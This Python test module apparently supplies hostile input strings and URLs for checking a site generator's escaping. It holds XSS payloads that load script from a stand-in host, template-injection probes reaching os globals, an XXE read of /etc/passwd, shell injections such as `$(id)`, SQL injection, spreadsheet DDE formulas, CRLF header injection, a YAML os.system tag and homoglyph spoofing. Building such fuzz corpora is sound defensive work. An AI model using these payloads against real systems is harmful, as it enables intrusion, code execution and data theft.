"""Five hundred hostile strings, each with the same one mark of having run: `hit()`, or a request to `evil.example`.

A list by what they attack, and what can be made of it by quoting, encoding and nesting. The same on every run.
"""

from collections.abc import Iterator
from itertools import product

EVIL = "evil.example"
_SCRIPT = "<script>hit()</script>"

# What breaks out of text, of attributes quoted one way or the other, of comments and of raw text elements.
_BEFORE = (
    *("", '">', "'>", "`>", "</a>", '"/>', "-->", "--!>", "]]>", "</title>", "</script>", "</style>", "</textarea>"),
    *("</noscript>", "</template>", "</xmp>", "</svg>", "</option></select>", '" >', '\\">', "\\'>", "<!-->", "<![CDATA["),
)
_MARKUP = (
    _SCRIPT,
    "<img src=x onerror=hit()>",
    "<svg/onload=hit()>",
    f"<iframe src=//{EVIL}></iframe>",
    f"<base href=//{EVIL}/>",
    "<details open ontoggle=hit()>",
)
# What needs no tag of its own, since it would stand in an attribute.
_ATTRIBUTES = (
    *('" onmouseover="hit()', "' onfocus='hit()' autofocus='", '" autofocus onfocus=hit() x="', "x onerror=hit()"),
    *('" style="background:url(//evil.example/a)', '"srcdoc="<script>hit()</script>"', "` onclick=hit() `", "\"'><b>"),
    *('" formaction="javascript:hit()"', "x/onload=hit()", '"onclick="hit()', "';hit();//", '";hit();//', "\\';hit();//"),
    *('" http-equiv="refresh" content="0;url=//evil.example"', '" hx-get="//evil.example"', '" data-windows="x/y/z'),
    *("' data-facts='{}'", '" lang="x"><i', '" role="alert', '" hidden="', '" href="javascript:hit()', "=hit() ="),
)
_TAGS = (
    *(
        "<body onload=hit()>",
        "<input autofocus onfocus=hit()>",
        "<video><source onerror=hit()></video>",
        "<marquee onstart=hit()>",
    ),
    *("<object data=javascript:hit()>", "<embed src=javascript:hit()>", "<math><mtext></form><form><mglyph><style></math>"),
    *("<link rel=stylesheet href=//evil.example/a.css>", "<meta http-equiv=refresh content=0;url=//evil.example>"),
    *("<a href=javascript:hit()>x</a>", "<form action=javascript:hit()><button>x</button></form>", "<isindex action=x>"),
    *(
        "<style>@import '//evil.example/a';</style>",
        "<plaintext>",
        "<xmp>",
        "<listing>",
        "<noembed>",
        "<frameset onload=hit()>",
    ),
    *(
        "<scr<script>ipt>hit()</scr</script>ipt>",
        "<<script>hit()//<</script>",
        "<script/src=//evil.example/a>",
        "<script\\x20>hit()",
    ),
    *(
        "<SCRIPT>hit()</SCRIPT>",
        "<ScRiPt>hit()</sCrIpT>",
        "<svg><script>hit()</script></svg>",
        "<svg><a xlink:href=javascript:hit()>",
    ),
    *(
        "<svg><animate onbegin=hit() attributeName=x>",
        "<svg><use href=//evil.example/a#b>",
        "<math href=javascript:hit()>x</math>",
    ),
    *(
        "<template><script>hit()</script></template>",
        "<select><option><script>hit()</script>",
        "<table><td background=//evil.example>",
    ),
    *(
        "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
        "<!--><script>hit()</script>",
        "<!--[if IE]><script>hit()</script>",
    ),
    *(
        "<?xml version='1.0'?>",
        "<?php system('id') ?>",
        "<%= 7*7 %>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
        "&e;",
    ),
    *(
        "<direction-finder data-texts=//evil.example>",
        "<script type=module>import('//evil.example')</script>",
        "<slot>",
        "<dialog open>",
    ),
)
_ENTITIES = (
    *(
        "&lt;script&gt;hit()&lt;/script&gt;",
        "&#60;script&#62;hit()",
        "&#x3c;img src=x onerror=hit()&#x3e;",
        "&amp;lt;b&amp;gt;",
    ),
    *(
        "&quot;&gt;&lt;svg onload=hit()&gt;",
        "&#34;onclick=&#34;hit()",
        "&#39;;hit()",
        "&colon;&sol;&sol;",
        "&NewLine;",
        "&Tab;",
        "&",
    ),
    *("&&amp;&#38;", "&notanentity;", "&#0;", "&#xD800;", "&#x110000;", "&#8238;abc", "&lt", "&copy", "&amp", "&#", "&#x"),
    *(
        "\\u003cscript\\u003ehit()",
        "\\x3cscript\\x3ehit()",
        "%3Cscript%3Ehit()%3C/script%3E",
        "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    ),
)
_TEMPLATES = (
    *(
        "{{ 7 * 7 }}",
        "{{7*'7'}}",
        "{% raw %}",
        "{% endraw %}",
        "{% endblock %}",
        "{% include '/etc/passwd' %}",
        "{# x #}",
        "{{",
        "}}",
    ),
    *(
        "{{ config }}",
        "{{ ''.__class__.__mro__ }}",
        "{{ self.__init__.__globals__ }}",
        "{{ cycler.__init__.__globals__.os }}",
    ),
    *(
        "{{ say('nav.guides') }}",
        "{%- set x = 1 -%}",
        "{{ page.title | safe }}",
        "{% autoescape false %}",
        "${7*7}",
        "#{7*7}",
        "<%= 7 %>",
    ),
    *(
        "{title}",
        "{0}",
        "{}",
        "{{}}",
        "{n}",
        "{title.__class__}",
        "{0.__init__.__globals__}",
        "{title!r:>99}",
        "%s",
        "%(title)s",
        "%n%n",
    ),
    *(
        "$title",
        "${title}",
        "{",
        "}",
        "%",
        "%%",
        "{site.name}",
        "[[7*7]]",
        "@{7*7}",
        "*{7*7}",
        "~{x}",
        "{{constructor.constructor('hit()')()}}",
    ),
)
_MARKDOWN = (
    *("[x](javascript:hit())", "[x](data:text/html,<script>hit()</script>)", f"![x](//{EVIL}/a.png)", "<javascript:hit()>"),
    *(
        "[x]: javascript:hit()",
        "[x][x]",
        "# x",
        "    code",
        "```html",
        "~~~",
        "---",
        "***",
        "* x",
        "1. x",
        "> x",
        "| x | y |",
    ),
    *(
        '??? note "x"',
        "!!! warning",
        "=== tab",
        '--8<-- "/etc/passwd"',
        ";--8<--",
        "{: onclick=hit() }",
        "{ .x #y onclick=hit() }",
    ),
    *(
        "[TOC]",
        "[^1]: x",
        "*[x]: y",
        "++x++",
        "==x==",
        "^^x^^",
        ":smile:",
        ":material-skull:",
        "$$x$$",
        "\\(x\\)",
        "<!-- more -->",
    ),
)
_ADDRESSES_IN_TEXT = (
    *("javascript:hit()", "JaVaScRiPt:hit()", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "vbscript:hit()"),
    *(
        f"//{EVIL}/a",
        f"https://{EVIL}/a",
        f"https://user:secret@{EVIL}/",
        "file:///etc/passwd",
        "../../../../etc/passwd",
        "..\\..\\x",
    ),
    *(
        "%2e%2e%2f",
        "/etc/passwd",
        "C:\\Windows\\win.ini",
        "\\\\evil.example\\share",
        "blob:x",
        "mailto:a@b.example?bcc=c@d.example",
    ),
)
_FORMULAS = (
    *(
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        '=HYPERLINK("//evil.example","x")',
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
    ),
    *(
        "'=1+1",
        '"=1+1',
        '=IMPORTXML("//evil.example")',
        '=DDE("cmd")',
        ";=1+1",
        "|=1+1",
        "=",
        "+",
        "-",
        "@",
        "--1",
        "-@x",
        "'",
        "''",
    ),
    *('","=1+1', '""', '"', "a,b", "a;b", "a\\tb", '"a""b"'),
)
_LINES = (
    *(
        "x\r\nATTENDEE:mailto:a@b.example",
        "x\nEND:VEVENT\nBEGIN:VEVENT",
        "x\r\n\r\n<script>hit()</script>",
        "x\nBEGIN:VALARM",
        "\n",
        "\r",
    ),
    *(
        "x\\nATTENDEE:mailto:a@b.example",
        "END:VCALENDAR",
        "BEGIN:VALARM",
        "SUMMARY;LANGUAGE=en:x",
        "x;y,z\\",
        "\\;\\,\\\\",
        "\\n\\N",
        "x:y;z=w",
    ),
    *(
        "x\r\nLocation: //evil.example",
        "x\r\nSet-Cookie: a=b",
        "a\tb",
        "a\x0bb",
        "a\x0cb",
        "a\u2028hit()",
        "a\u2029hit()",
        "a\x85b",
    ),
    *(
        "---\nx: y",
        "x\n...\n",
        "- x\n- y",
        "x: y",
        "&a x",
        "*a",
        "!!python/object/apply:os.system [id]",
        "!x y",
        "<<",
        "? x",
        "| x",
        "%YAML 1.1",
    ),
)
_CHARACTERS = (
    *(
        f"a{character}b"
        for character in "\0\x01\x07\x08\x1b\x1f\x7f\x80\x9b\x9f\xad\ufeff\ufffe\uffff\ufff9\U000e0041\U000e007f"
    ),
    *(f"a{character}b" for character in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u180e"),
    *(
        f"a{character}b"
        for character in "\u200b\u200c\u200d\u2060\u2061\u2064\u3164\u115f\u1160\u2800\u034f\ue000\uf8ff\U000f0000"
    ),
    *(
        "a\ud800b",
        "a\udfffb",
        "\ud800\udc00",
        "a\x1b[31mb",
        "a\x1b]8;;//evil.example\x07b",
        "\ue000article\ue001",
        "\ue000title\ue001",
    ),
    *(
        "e\u0301",
        "A\u030a",
        "\u1e9b\u0323",
        "ﬁ",
        "Å",
        "Ω",
        "㎏",
        "①",
        "Ⅷ",
        "ｓｃｒｉｐｔ",
        "＜script＞",
        "﹤script﹥",
        "‹script›",
        "ʺonclick＝",
        "ⅰ",
    ),
    *(
        "раypal",
        "аррӏе",
        "ｅvil",
        "ехаmple",
        "O0oО",
        "ΑВС",
        "ⅼl1I|",
        "𝓱𝓲𝓽",
        "𝟏𝟐",
        "⼭",
        "⼀",
        "豈",
        "𠀀𪛖",
        "👩‍💻",
        "🇳🇴",
        "👍🏽",
        "a\ufe0fb",
    ),
    *(
        "שלום",
        "مرحبا بالعالم",
        "abc עברית def",
        "हिन्दी",
        "ไทย",
        "中文",
        "日本語",
        "한국어",
        "İstanbul ı",
        "ẞß",
        "ﷺ",
        "\u202e",
    ),
    *(
        "a" + "\u0301" * 60,
        "x" + "\u0301" * 60,
        "Z" + "\u0489" * 40,
        "Z" + "\u0336\u0489\u035c" * 40,
        "\u0301",
        "‥…—–",
        "“”‘’«»",
        "\u00a0x\u00a0",
        "\u3000x",
        " x",
        "x ",
        "  ",
        "",
        "a  b",
    ),
)
_LONG = (
    *(
        "x" * 1_999,
        "x" * 2_000,
        "x" * 2_001,
        "中" * 2_000,
        "<b>" * 600,
        "&" * 1_500,
        '"' * 1_500,
        "{{" * 900,
        "a " * 900,
        "=" * 1_500,
    ),
    *(
        "\\" * 1_500,
        "長い" * 700,
        "[" * 1_500,
        "(" * 1_500,
        "https://" * 200,
        "x@" * 700,
        "1," * 700,
        "-" * 1_500,
        "<!--" * 400,
        "𠀀" * 900,
    ),
)
_DATA = (
    *(
        '"}</script><script>hit()',
        "</script><!--<script>",
        '{"a":1}',
        '"},{"@type":"x',
        "\\u2028",
        "\\",
        '\\"',
        "\\\\",
        "*/hit()/*",
        "//hit()",
    ),
    *(
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
        "null",
        "undefined",
        "NaN",
        "None",
        "true",
        "false",
        "0",
        "-0",
        "1e999",
        "[]",
    ),
    *(
        "]]><x/>",
        "<![CDATA[x]]>",
        "<?xml-stylesheet href='//evil.example'?>",
        "&lt;x xmlns='y'&gt;",
        "xmlns:x='y'",
        "' or '1'='1",
        "'; drop table x;--",
    ),
    *(
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "&& id",
        "::error::x",
        "##[error]x",
        "\\033[31m",
        "(?:a+)+$",
        ".*",
        "\\d",
        "a|b",
        "^$",
        "[a-z]",
        "CON",
        "nul",
    ),
    *(
        "2025-02-30",
        "16:00",
        "NO",
        "1.10",
        "010",
        "0x1F",
        "12,50",
        "1 st",
        "USD 5 million",
        "May",
        "first",
        "5G",
        "http://a",
        "a@b.example",
    ),
)


def texts() -> tuple[str, ...]:
    """Return every hostile string once, in a fixed order."""
    made = (before + markup for before, markup in product(_BEFORE, _MARKUP))
    listed = (*_TAGS, *_ATTRIBUTES, *_ENTITIES, *_TEMPLATES, *_MARKDOWN, *_ADDRESSES_IN_TEXT, *_FORMULAS, *_LINES)
    return tuple(dict.fromkeys([*made, *listed, *_CHARACTERS, *_LONG, *_DATA]))


def addresses() -> Iterator[str]:
    """Yield addresses that no link may have: other schemes, other hosts than they seem, characters that break out."""
    schemes: tuple[str, ...] = (
        "javascript:hit()",
        "JAVASCRIPT:hit()",
        "java\tscript:hit()",
        "java\nscript:hit()",
        " javascript:hit()",
    )
    schemes += ("data:text/html,<script>hit()</script>", "vbscript:hit()", "file:///etc/passwd", "blob:https://a.example/x")
    schemes += (
        "ftp://a.example/",
        "mailto:a@b.example",
        "tel:1",
        "about:blank",
        "view-source:https://a.example/",
        "ws://a.example/",
    )
    schemes += (
        "//evil.example/",
        "/evil",
        "evil",
        "#x",
        "?x",
        "\\\\evil.example",
        "https:/evil.example",
        "https:evil.example",
    )
    schemes += ("https:///evil.example", "https:\\\\evil.example", "http://", "https://", "https:", "://a.example", "x:y:z")
    yield from schemes
    hosts: tuple[str, ...] = (
        "user@a.example",
        "user:secret@a.example",
        "a.example@evil.example",
        "a.example:8080",
        "a.example:",
        "a.example%00.evil.example",
    )
    hosts += (
        "localhost",
        "127.0.0.1.",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "a..example",
        ".a.example",
        "a.example.",
        "-a.example",
        "a-.example",
    )
    hosts += ("раypal.example", "аррӏе.example", "a。example", "a．example", "ⓔvil.example", "evil.example\\.a.example")
    hosts += (
        "a_b.example",
        "a b.example",
        "*.example",
        "a.example\u202e",
        "a.example\u200b",
        "中国.example",
        "xn--",
        "a%2eexample",
    )
    yield from (f"https://{host}/" for host in hosts)
    ends: tuple[str, ...] = (
        '"',
        "'",
        "<",
        ">",
        "`",
        " ",
        "\\",
        "{{7*7}}",
        "|",
        "^",
        "\t",
        "\n",
        "\r\nSet-Cookie:a=b",
        "\0",
        "\x7f",
        "中",
        "\u202e",
        "\u2028",
    )
    yield from (f"https://a.example/{end}x" for end in ends)
    yield from (
        'https://a.example/" onclick="hit()',
        "https://a.example/'onclick='hit()",
        "https://a.example/><script>hit()</script>",
    )


HARMLESS_ADDRESSES = (
    # Odd, but what they seem: escaped they harm nobody.
    *(
        "https://a.example/?a=1&b=2",
        "https://a.example/?x=javascript:hit()",
        "https://a.example/;hit();//",
        "https://a.example/*hit()*/",
    ),
    *(
        "https://a.example/%22%3E%3Cscript%3E",
        "https://a.example/$(id)",
        "https://a.example/?u=//evil.example",
        "https://a.example/../../x",
    ),
    *("http://xn--80ak6aa92e.example/", "https://a.example/#&lt;script&gt;x", "https://a.example/&quot;onclick=hit()"),
    "https://a.example#@evil.example/",
)
